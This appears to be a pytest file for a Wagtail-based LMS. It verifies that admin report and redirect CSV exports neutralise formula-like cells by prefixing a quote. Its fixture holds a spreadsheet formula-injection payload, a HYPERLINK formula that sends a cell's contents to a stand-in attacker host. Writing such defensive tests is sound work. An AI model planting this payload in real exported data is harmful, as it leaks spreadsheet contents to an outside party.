"""Wagtail's own CSV downloads neutralise formula-like cells (``lms/reports/wagtail_exports.py``)."""

import csv
import io

import pytest
from wagtail.contrib.redirects.models import Redirect

from lms.core.spreadsheets import FORMULA_STARTS
from tests.factories import UserFactory
from tests.lms.events.event_builders import make_event

pytestmark = pytest.mark.django_db

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.fixture
def admin(client):
    client.force_login(
        UserFactory(username="@admin", full_name="+Admin", is_superuser=True)
    )
    return client


@pytest.fixture
def formula_page(admin, home_page):
    page = make_event(home_page, title=FORMULA_TITLE)
    page.save_revision(user=UserFactory(username="-editor")).publish()
    type(page).objects.filter(pk=page.pk).update(locked=True)
    return page


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/reports/locked/",
    ],
)
def test_wagtail_reports_write_a_formula_title_as_text(admin, formula_page, url):
    cells = csv_cells(admin.get(url, {"export": "csv"}))
    assert "'" + FORMULA_TITLE in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_redirects_download_writes_formulas_as_text(admin, formula_page):
    Redirect.objects.create(old_path="/lama", redirect_link="=1+1")
    cells = csv_cells(admin.get("/admin/redirects/", {"export": "csv"}))
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
